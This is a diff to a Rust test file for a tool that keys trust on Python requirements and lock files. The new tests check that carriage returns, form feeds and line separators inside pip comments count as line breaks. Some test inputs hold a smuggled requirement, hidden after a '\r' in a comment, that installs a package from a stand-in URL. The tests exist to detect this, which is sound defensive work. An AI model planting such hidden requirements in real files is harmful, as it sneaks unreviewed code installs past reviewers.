@@ -1,5 +1,5 @@
 use super::*;
-use crate::config::Libraries;
+use crate::config::{Libraries, ProjectConfig};
 use crate::protocol::Op;
 
 #[test]
@@ -41,7 +41,7 @@ fn a_poetry_lock_is_satisfied_by_what_the_venv_has_at_the_locked_versions() {
 #[test]
 fn only_exact_pins_are_checked_against_the_venv() {
     let have = [("greet".to_string(), "0.1.0".to_string())].into();
-    let pins = |lines: &[&str]| satisfies_pins(lines.iter().map(|l| l.as_bytes()), &have);
+    let pins = |lines: &[&str]| satisfies_pins(lines.iter().copied(), &have);
     assert!(pins(&["greet==0.1.0"]));
     assert!(pins(&[
         "Greet[fast] == 0.1.0",
@@ -137,6 +137,55 @@ fn a_comment_in_a_requirements_file_is_no_change() {
     );
     // A lock counts byte for byte.
     assert_ne!(fp("uv.lock", "a\n"), fp("uv.lock", "# c\na\n"));
+    // pip starts a line at a `\r` (or a form feed) too: what follows a comment
+    // there is a requirement, and a change.
+    for sep in ["\r", "\x0c", "\u{2028}"] {
+        assert_ne!(
+            plain,
+            fp(
+                "requirements.txt",
+                &format!("tinypkg==2.0  # http{sep}evil @ https://e/e.tgz\n")
+            ),
+            "{sep:?}"
+        );
+    }
+}
+
+#[test]
+fn trust_keys_the_exact_bytes_of_what_would_be_installed() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = ProjectConfig::default();
+    let key = |text: &str| {
+        std::fs::write(dir.path().join("requirements.txt"), text).unwrap();
+        Inputs::of(dir.path(), &config).unwrap().key
+    };
+    let allowed = key("requests==2.32.3  # http\n");
+    assert_ne!(
+        allowed,
+        key("requests==2.32.3  # http\revil @ https://e/e.tgz\n")
+    );
+    assert_ne!(allowed, key("requests==2.32.3  # https\n"), "a comment too");
+    assert_eq!(allowed, key("requests==2.32.3  # http\n"));
+    // What the requirements include is installed too, so it is keyed too.
+    std::fs::create_dir(dir.path().join("reqs")).unwrap();
+    std::fs::write(dir.path().join("reqs/base.txt"), "-c pins.txt\nflask\n").unwrap();
+    std::fs::write(dir.path().join("reqs/pins.txt"), "flask==3.0\n").unwrap();
+    let with = key("-r reqs/base.txt\nrequests==2.32.3\n");
+    let names = Inputs::of(dir.path(), &config).unwrap().names();
+    assert_eq!(names, "requirements.txt, reqs/base.txt, reqs/pins.txt");
+    std::fs::write(dir.path().join("reqs/pins.txt"), "flask==3.1\n").unwrap();
+    assert_ne!(with, key("-r reqs/base.txt\nrequests==2.32.3\n"));
+    // An empty `requirements` list installs nothing; a pyproject named alone
+    // is the project, keyed with its build files.
+    let none = crate::config::VenvConfig {
+        requirements: Some(vec![]),
+        ..Default::default()
+    };
+    let empty = ProjectConfig {
+        venv: none,
+        ..Default::default()
+    };
+    assert!(Inputs::of(dir.path(), &empty).unwrap().files.is_empty());
 }
 
 #[test]
